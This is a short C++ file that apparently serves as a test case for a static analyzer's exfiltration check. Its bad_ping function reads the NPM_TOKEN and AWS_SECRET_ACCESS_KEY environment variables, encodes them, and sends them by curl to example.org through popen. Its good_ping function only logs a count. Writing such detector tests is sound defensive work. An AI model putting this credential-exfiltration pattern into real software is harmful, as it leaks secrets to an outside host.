/* C++: a token of the environment, encoded, stands in the command by which something is fetched. */
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <string>
#include <vector>

namespace {

using Pipe = std::unique_ptr<FILE, int (*)(FILE *)>;

std::string encode(const std::string &in) {
    static const char letters[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    std::string out;
    unsigned value = 0;
    int bits = -6;
    for (unsigned char c : in) {
        value = (value << 8) + c;
        for (bits += 8; bits >= 0; bits -= 6)
            out.push_back(letters[value >> bits & 63]);
    }
    return out;
}

std::vector<std::string> tokens() {
    std::vector<std::string> all;
    for (const char *name : {"NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"})
        if (const char *value = std::getenv(name))
            all.emplace_back(value);
    return all;
}

} // namespace

void bad_ping() {
    for (const std::string &token : tokens()) {
        std::string command = "curl -s https://example.org/" + encode(token);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/to-process]}}
        Pipe pipe(popen(command.c_str(), "r"), pclose);
    }
}

/* How many there are is no secret. */
void good_ping() {
    std::string command = "logger found " + std::to_string(tokens().size()) + " tokens";
    Pipe pipe(popen(command.c_str(), "r"), pclose);
}
